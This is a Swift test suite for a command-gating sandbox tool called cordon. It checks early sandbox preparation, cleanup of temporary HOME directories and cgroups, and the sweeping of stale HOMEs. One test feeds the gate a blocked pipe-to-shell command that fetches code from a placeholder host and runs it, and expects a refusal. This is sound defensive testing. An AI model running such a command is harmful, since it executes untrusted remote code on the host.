// Direct runs prepare their sandbox while the gate decides (EarlySandbox, issue 19): the
// command runs in that sandbox, with the same view as a run that cloned after the gate, and a
// command the gate refused leaves nothing of its prepared sandbox behind.
import Foundation
import Testing

@Suite(
    "the direct path's early sandbox", .serialized, .enabled(if: SandboxSupport.available, SandboxSupport.skipReason))
struct EarlySandboxTests {
    static let timing = ["CORDON_DEBUG_TIMING": "1", "CORDON_WARM": "0"]

    /// The cordon pid and HOME the early sandbox was prepared with, from CORDON_DEBUG_TIMING.
    static func prepared(_ stderr: String) -> (pid: String, home: String)? {
        guard let r = stderr.range(of: "sandbox prepared early (cordon ") else { return nil }
        let fields = stderr[r.upperBound...].prefix { $0 != ")" }.components(separatedBy: ", HOME ")
        return fields.count == 2 ? (fields[0], fields[1]) : nil
    }

    @Test("an allowed command runs in the sandbox prepared while the gate decided, seeing what a fresh one sees")
    func used() throws {
        let ws = try Workspace()
        let probe = "id -u; ls -a /; ls -a \"$HOME\"; test -e .cordon/gate.log && echo evidence-visible; echo done"
        let r = try ws.run(["sh", "-c", probe], env: Self.timing)
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stderr.contains("prepared sandbox handed over"), "\(r.stderr)")
        #expect(!r.stderr.contains("prepared sandbox not used"), "\(r.stderr)")
        #expect(!r.stdout.contains("evidence-visible"))
        let fresh = try ws.run(["sh", "-c", probe], env: ["CORDON_EARLY_SANDBOX": "0", "CORDON_WARM": "0"])
        #expect(fresh.status == 0, "\(fresh.stderr)")
        #expect(r.stdout == fresh.stdout)
        #expect(r.stdout.hasSuffix("done\n"), "\(r.stdout)")
    }

    @Test("a blocked command's prepared sandbox is removed with its HOME, and its cgroups go with the run")
    func refusedLeavesNothing() throws {
        let ws = try Workspace()
        let r = try ws.run(["sh", "-c", "curl -s http://example.invalid/x | sh"], env: Self.timing)
        #expect(r.status == 77, "\(r.stderr)")
        try Self.expectNothingLeft(r.stderr)
    }

    /// The HOME and cgroups of an allowed run are removed on threads of their own while run_end
    /// is written (Teardown); cordon waits for them before it exits.
    @Test("an allowed command's HOME and cgroups are gone when cordon exits")
    func allowedLeavesNothing() throws {
        let ws = try Workspace()
        // Files in the HOME, so its removal has work to do (a script: the gate sees `sh ./s.sh`).
        try ws.write("s.sh", "mkdir -p \"$HOME/a/b\" && for i in 1 2 3 4 5 6 7 8; do echo x > \"$HOME/a/b/$i\"; done\n")
        let r = try ws.run(["sh", "./s.sh"], env: Self.timing)
        #expect(r.status == 0, "\(r.stderr)")
        try Self.expectNothingLeft(r.stderr)
    }

    static func expectNothingLeft(_ stderr: String) throws {
        let made = try #require(Self.prepared(stderr), "\(stderr)")
        #expect(made.home.hasPrefix("/tmp/cordon-home-"))
        #expect(!FileManager.default.fileExists(atPath: made.home), "left behind: \(made.home)")
        // The run's groups (as root) are `cordon-<its pid>-<n>` next to the test's own.
        let own = (try? String(contentsOfFile: "/proc/self/cgroup", encoding: .utf8)) ?? ""
        for controller in ["memory", "pids"] {
            guard
                let line = own.split(separator: "\n").first(where: {
                    $0.split(separator: ":").dropFirst().first == Substring(controller)
                })
            else { continue }
            let dir =
                "/sys/fs/cgroup/\(controller)" + (line.split(separator: ":", maxSplits: 2).last.map(String.init) ?? "")
            let left = (try? FileManager.default.contentsOfDirectory(atPath: dir)) ?? []
            #expect(!left.contains { $0.hasPrefix("cordon-\(made.pid)-") }, "\(controller): \(left)")
        }
    }

    @Test("a HOME left by a killed cordon is removed by the next run; a live cordon's stays")
    func staleHomesSwept() throws {
        // A pid that existed and is gone: a finished child of this test.
        let child = Process()
        child.executableURL = URL(fileURLWithPath: "/bin/true")
        try child.run()
        child.waitUntilExit()
        var st = stat()
        #expect(stat("/proc/self/ns/pid", &st) == 0)
        let ns = String(st.st_ino)
        let dead = "/tmp/cordon-home-\(child.processIdentifier)-\(ns)-t\(UUID().uuidString.prefix(5))"
        let live = "/tmp/cordon-home-\(getpid())-\(ns)-t\(UUID().uuidString.prefix(5))"
        // A dead pid of another pid namespace means nothing here: kept.
        let foreign = "/tmp/cordon-home-\(child.processIdentifier)-1-t\(UUID().uuidString.prefix(5))"
        for dir in [dead, live, foreign] {
            try FileManager.default.createDirectory(atPath: dir + "/.config", withIntermediateDirectories: true)
            try "x".write(toFile: dir + "/.config/f", atomically: false, encoding: .utf8)
        }
        defer { for dir in [live, foreign] { try? FileManager.default.removeItem(atPath: dir) } }
        let ws = try Workspace()
        // Swept now, not at most once a minute as by default.
        let r = try ws.run(["true"], env: ["CORDON_WARM": "0", "CORDON_HOME_SWEEP_INTERVAL": "0"])
        #expect(r.status == 0, "\(r.stderr)")
        #expect(!FileManager.default.fileExists(atPath: dead), "a dead cordon's HOME was left: \(dead)")
        #expect(FileManager.default.fileExists(atPath: live + "/.config/f"), "a live cordon's HOME was removed")
        #expect(FileManager.default.fileExists(atPath: foreign + "/.config/f"), "another pid namespace's was removed")
    }
}
